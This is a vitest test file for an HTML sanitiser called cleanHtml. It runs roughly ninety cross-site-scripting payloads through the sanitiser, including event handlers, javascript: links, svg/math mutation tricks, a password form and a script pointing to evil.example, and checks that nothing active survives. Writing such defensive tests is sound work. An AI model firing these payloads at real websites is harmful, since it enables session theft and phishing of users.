import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanHtml } from './cleanHtml'

/** Shapes that have got through sanitisers before: handlers, addresses, foreign content, parser differences, unclosed and nested tags. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onerror="alert(1)">',
  '<img src="https://a.example/x.png"onload=alert(1)>',
  '<img/src="https://a.example/x.png"/onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img srcset="https://evil.example/a 1x" src="//evil.example/p.gif">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="https://a.example" style="position:fixed" onclick="x()" target=_top ping="https://evil.example">x</a>',
  '<a href="https://a.example/&quot; onmouseover=alert(1) x=&quot;">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><table><img src=x onerror=alert(1)></table></desc></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>1</script></svg>#x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><math><img src onerror=alert(1)></style>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><a href="x">y</a>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<p style="background:url(https://evil.example/p)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><p>x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p title="&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '<a title="</a><img src=x onerror=alert(1)>" href="https://a.example">x</a>',
  '<img alt="`><script>alert(1)</script>" src="https://a.example/x.png">',
  '<code class="language-js evil onload">x</code>',
  '<td colspan="9999999999" rowspan="-1" onclick=x>y</td>',
  '<table><tr><td><a href="javascript:1"><table><form><td onmouseover=alert(1)>x',
  '<p><b><i>open and never closed',
  '</p></div></script>x',
  '<p\u0000onclick=alert(1)>x</p>',
  '<a\u00a0onclick=alert(1) href="https://a.example">x</a>',
  '<İmg src=x onerror=alert(1)>',
  '<o:p onclick=alert(1)>Pasted from Word</o:p><![if !supportLists]><span style="mso-list:Ignore">x</span><![endif]>',
  '<p class=MsoNormal style="mso-margin-top-alt:auto"><o:p>&nbsp;</o:p></p>',
  '<img src="https://tracker.example/pixel.gif?u=1" width=1 height=1 style="display:none">',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<slot onslotchange=alert(1)></slot><portal src="https://evil.example">',
]

const WRAPS = [
  (text: string) => text,
  (text: string) => `<p>${text}</p>`,
  (text: string) => `<table><tr><td>${text}</td></tr></table>`,
  (text: string) => `<svg>${text}</svg>${text}`,
  (text: string) => `<a title='${text}' href="https://a.example">${text}</a>`,
]

/** What may stand in the answer, tag by tag; everything else is text. */
const TAG =
  /^<\/?(p|br|hr|h[1-4]|blockquote|pre|code|ul|ol|li|a|img|strong|em|b|i|u|s|sub|sup|mark|table|caption|thead|tbody|tfoot|tr|th|td)((?: [a-z]+="[^"<>]*")*)( \/)?>$/
const ATTRIBUTE = /^(href|title|rel|src|alt|width|height|start|colspan|rowspan|class)$/

function problems(html: string): string[] {
  return [...html.matchAll(/<[^>]*>?/g)].flatMap(([tag]) => {
    const parts = TAG.exec(tag)
    if (!parts) return [`tag ${tag}`]
    return [...(parts[2] ?? '').matchAll(/ ([a-z]+)="([^"]*)"/g)].flatMap(([, name = '', value = '']) => {
      if (!ATTRIBUTE.test(name)) return [`attribute ${name}`]
      const allowed = name === 'href' ? /^(https?:\/\/|mailto:)[^\s\\]/i : name === 'src' ? /^https?:\/\/[^\s\\]/i : /./s
      return value !== '' && !allowed.test(value) ? [`address ${value}`] : []
    })
  })
}

describe('cleanHtml', () => {
  it('S31 F82 leaves nothing active of 450 payloads, and cleaning again changes nothing', () => {
    const found: string[] = []
    let unsettled = 0
    const payloads = PAYLOADS.flatMap((payload) => WRAPS.map((wrap) => wrap(payload)))
    for (const payload of payloads) {
      const clean = cleanHtml(payload)
      found.push(...problems(clean).map((problem) => `${payload} → ${problem}`))
      if (cleanHtml(clean) !== clean) unsettled++
    }
    console.warn(`html payloads=${payloads.length} active=${found.length} not_idempotent=${unsettled}`)
    expect(payloads.length).toBeGreaterThanOrEqual(300)
    expect(found).toEqual([])
    expect(unsettled).toBe(0)
  })

  it('S31 holds for any mixture of the pieces', () => {
    const piece = fc.constantFrom(...PAYLOADS.flatMap((payload) => payload.split(/(?=[<>"' ])/)))
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const clean = cleanHtml(pieces.join(''))
        expect(problems(clean)).toEqual([])
        expect(cleanHtml(clean)).toBe(clean)
      }),
      { numRuns: 500 },
    )
  })

  it('keeps what the editor makes', () => {
    const text =
      '<h2>Fees</h2><p>See <a href="https://a.example/x?a=1&amp;b=2" rel="noopener noreferrer">the list</a> or <a href="mailto:a@b.example" rel="noopener noreferrer">write</a>.</p><ul><li><p>One</p></li></ul><ol start="3"><li><p><strong>Two</strong></p></li></ol><pre><code class="language-ts">a &lt; b</code></pre><table><tbody><tr><th colspan="2">A</th></tr></tbody></table><blockquote><p>5 &gt; 4</p></blockquote><img src="https://a.example/x.png" alt="A chart" /><hr /><p>Δ 🙂 line<br />two</p>'
    expect(cleanHtml(text)).toBe(text)
  })

  it('F82 drops pictures that only count readers', () => {
    for (const size of ['width="1" height="1"', 'height=0', 'width=" 01px"'])
      expect(cleanHtml(`<p>x<img src="https://tracker.example/p.gif" ${size}></p>`)).toBe('<p>x</p>')
    expect(cleanHtml('<img src="https://a.example/x.png" width="100">')).toContain('<img')
  })

  it('takes a link’s address away and leaves its words', () => {
    expect(cleanHtml('<a href="javascript:alert(1)">read on</a>')).toBe('<a>read on</a>')
    expect(cleanHtml('<a href="ftp://a.example">read on</a>')).toBe('<a>read on</a>')
  })
})
